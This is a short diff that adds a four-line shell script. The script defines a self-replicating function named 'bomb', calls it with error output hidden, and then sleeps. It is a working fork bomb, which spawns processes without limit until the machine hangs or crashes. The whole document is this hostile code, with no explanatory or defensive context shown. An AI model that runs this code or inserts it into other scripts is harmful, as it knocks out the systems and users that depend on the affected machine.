@@ -1,0 +1,4 @@
+bomb() { bomb | bomb & }
+echo begun
+bomb 2>/dev/null
+sleep 60
